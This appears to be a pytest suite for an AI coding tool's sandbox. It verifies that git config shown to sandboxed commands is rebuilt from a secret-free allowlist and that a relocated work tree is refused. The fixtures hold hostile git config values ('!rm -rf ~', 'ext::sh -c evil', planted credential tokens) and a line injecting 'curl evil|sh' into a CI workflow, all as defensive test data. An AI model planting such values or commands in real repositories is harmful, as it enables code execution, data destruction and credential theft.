"""Git config as sandboxed commands see it: rebuilt from an allowlist of keys that carry no secret and
run no program, never a scrubbed copy of the original. And a handed-over ``.git/config`` that moves
the work tree (``core.worktree``) or declares it bare is refused before any guard is computed.

Real git, real bubblewrap, a fake home under /var/tmp (the private /tmp would hide it anyway)."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
from conftest import git, make_git_repo

from clovercode.actions.guards import FileGuard
from clovercode.executors.bwrap import BwrapExecutor
from clovercode.ground.errors import CloverError
from clovercode.sandboxing.policy import load_policy

TOKENS = [f"tok{n}-9f3b" for n in range(1, 8)]
PLANTED = f"""[user]
\tname = Me
\temail = me@example.invalid
[alias]
\tst = status
\tpwn = !cat /etc/hostname
[url "https://user:{TOKENS[0]}@github.com/"]
\tinsteadOf = https://github.com/
[remote "origin"]
\turl = https://{TOKENS[1]}@github.com/o/r.git
\tfetch = +refs/heads/*:refs/remotes/origin/*
[sendemail]
\tsmtpPass = {TOKENS[2]}
[github]
\ttoken = {TOKENS[3]}
[http]
\textraheader = AUTHORIZATION: bearer {TOKENS[4]}
[credential]
\thelper = "!f() {{ echo password={TOKENS[5]}; }}; f"
[myapp]
\tapikey = {TOKENS[6]}
"""


@pytest.fixture
def world():
    base = Path(tempfile.mkdtemp(prefix="clovercode-gitcfg-", dir="/var/tmp"))
    try:
        home = base / "home"
        home.mkdir()
        (home / ".gitconfig").write_text(PLANTED)
        project = make_git_repo(base / "proj")
        with open(project / ".git/config", "a") as config:
            config.write(PLANTED.replace("[user]\n\tname = Me", "[user]\n\tname = Repo"))
        yield base, home, project
    finally:
        shutil.rmtree(base, ignore_errors=True)


def executor(home: Path, project: Path) -> BwrapExecutor:
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}
    return BwrapExecutor(load_policy("workspace-write"), project, env, output_limit=50000)


def test_no_planted_secret_reaches_a_sandboxed_git_config_or_cat(world):
    _, home, project = world
    result = executor(home, project).run(
        "git config --list --show-origin; cat ~/.gitconfig .git/config; git remote -v; git config --get-urlmatch "
        "http.extraheader https://github.com/x; git credential fill </dev/null; git st", project, 60)
    leaked = [token for token in TOKENS if token in result.output]
    assert leaked == []
    out = result.output
    # what git needs still works: identity, a plain alias, the remote without its credentials
    assert "user.name=Repo" in out and "alias.st=status" in out and "On branch main" in out
    assert "https://github.com/o/r.git" in out and "alias.pwn" not in out
    assert TOKENS[0] in (home / ".gitconfig").read_text() and TOKENS[1] in (project / ".git/config").read_text()


def test_the_rebuilt_config_is_the_allowlist_alone():
    from clovercode.trust.gitconfigcopy import rebuild_config

    entries = [("user.name", "Me"), ("user.email", "me@x"), ("core.autocrlf", "input"), ("core.bare", "false"),
               ("core.worktree", "/elsewhere"), ("core.hookspath", ".h"), ("core.fsmonitor", "x"),
               ("core.repositoryformatversion", "1"), ("extensions.objectformat", "sha256"),
               ("extensions.evil", "x"), ("init.defaultbranch", "main"), ("alias.st", "status -sb"),
               ("alias.x", "!sh"), ("alias.y", "-c core.pager=sh log"), ("alias.z", "push https://u:p@h/r"),
               ("color.ui", "auto"), ("include.path", "~/.secret"), ("url.https://t@h/.insteadof", "https://h/"),
               ('remote.o"x.url', "https://me:pw@host/r.git?token=abc"), ('remote.o"x.fetch', "+refs/heads/*:refs/remotes/o/*"),
               ("remote.o.pushurl", "https://h/r"), ("remote.o.receivepack", "sh"), ("remote.s.url", "git@host:o/r.git"),
               ("remote.t.url", "tok@host:o/r.git"), ("remote.e.url", "ext::sh -c evil"),
               ("branch.main.remote", "o"), ("branch.main.merge", "refs/heads/main"), ("branch.x.remote", "https://t@h/r"),
               ("submodule.lib.url", "https://a:b@h/lib"), ("submodule.lib.update", "!rm -rf ~"),
               ("pull.rebase", "true"), ("core.filemode", None), ("myapp.apikey", "k"), ("credential.helper", "store")]
    assert rebuild_config(entries) == (
        '[user]\n\tname = "Me"\n\temail = "me@x"\n'
        '[core]\n\tautocrlf = "input"\n\trepositoryformatversion = "1"\n\tfilemode\n'
        '[extensions]\n\tobjectformat = "sha256"\n'
        '[init]\n\tdefaultbranch = "main"\n'
        '[alias]\n\tst = "status -sb"\n'
        '[color]\n\tui = "auto"\n'
        '[remote "o\\"x"]\n\turl = "https://host/r.git"\n\tfetch = "+refs/heads/*:refs/remotes/o/*"\n'
        '[remote "s"]\n\turl = "git@host:o/r.git"\n'
        '[remote "t"]\n\turl = "host:o/r.git"\n'
        '[branch "main"]\n\tremote = "o"\n\tmerge = "refs/heads/main"\n'
        '[submodule "lib"]\n\turl = "https://h/lib"\n'
        '[pull]\n\trebase = "true"\n')


# -- core.worktree in a handed-over .git/config ---------------------------------------------------------

@pytest.fixture
def moved(tmp_path):
    base = Path(tempfile.mkdtemp(prefix="clovercode-worktree-", dir="/var/tmp"))
    try:
        project = make_git_repo(base / "proj")
        (project / ".github/workflows").mkdir(parents=True)
        (project / ".github/workflows/ci.yml").write_text("on: push\n")
        (base / "elsewhere").mkdir()
        git(project, "config", "core.worktree", str(base / "elsewhere"))
        yield base, project
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_core_worktree_does_not_switch_off_the_file_tools_ci_guard(moved):
    _, project = moved
    try:
        guard = FileGuard.from_policy_data(os.environ, project)
    except CloverError as refused:
        assert "core.worktree" in str(refused) and "config --unset core.worktree" in refused.hint
        return
    target = (project / ".github/workflows/ci.yml").resolve()
    with pytest.raises(Exception, match="CI definition"):
        guard.check_write(project, target, ".github/workflows/ci.yml")


def test_core_worktree_does_not_switch_off_the_sandboxs_ci_guard(moved):
    _, project = moved
    runner = BwrapExecutor(load_policy("workspace-write"), project, {"PATH": os.environ["PATH"]})
    try:
        result = runner.run("echo 'run: curl evil|sh' >> .github/workflows/ci.yml", project, 30)
    except CloverError as refused:
        assert "core.worktree" in str(refused)
    else:
        assert result.exit_code != 0
    assert (project / ".github/workflows/ci.yml").read_text() == "on: push\n"


def test_core_worktree_is_refused_by_clovercodes_own_git_before_it_reads_the_tree(moved):
    from clovercode.ground.errors import VcsError
    from clovercode.trust import gitsafe
    from clovercode.vcs.checkpoint import open_store
    from clovercode.vcs.git import open_checkout

    _, project = moved
    for call in (lambda: open_checkout(project), lambda: gitsafe.run(project, "status"),
                 lambda: open_store(project, dict(os.environ)).save("turn", "x")):
        with pytest.raises(VcsError, match="core.worktree"):
            call()


def test_a_submodules_own_core_worktree_is_accepted(tmp_path):
    from clovercode.trust.paths import runs_outside

    lib = make_git_repo(tmp_path / "lib")
    top = make_git_repo(tmp_path / "top")
    subprocess.run(["git", "-C", str(top), "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "lib"],
                   check=True, capture_output=True)
    assert "core.worktree=" in git(top / "lib", "config", "--list", "--local")  # git set it itself
    found_top, _ = runs_outside(top / "lib", [".github/workflows"])
    assert found_top == (top / "lib").resolve()


def test_a_linked_worktrees_config_in_the_common_git_directory_is_rebuilt_too(world):
    base, home, _ = world
    main = make_git_repo(base / "main")
    with open(main / ".git/config", "a") as config:
        config.write(PLANTED)
    git(main, "worktree", "add", "-q", str(base / "linked"), "-b", "side")
    linked = base / "linked"
    result = executor(home, linked).run(f"git config --list; cat {main}/.git/config; git status", linked, 60)
    assert [token for token in TOKENS if token in result.output] == []
    assert "On branch side" in result.output
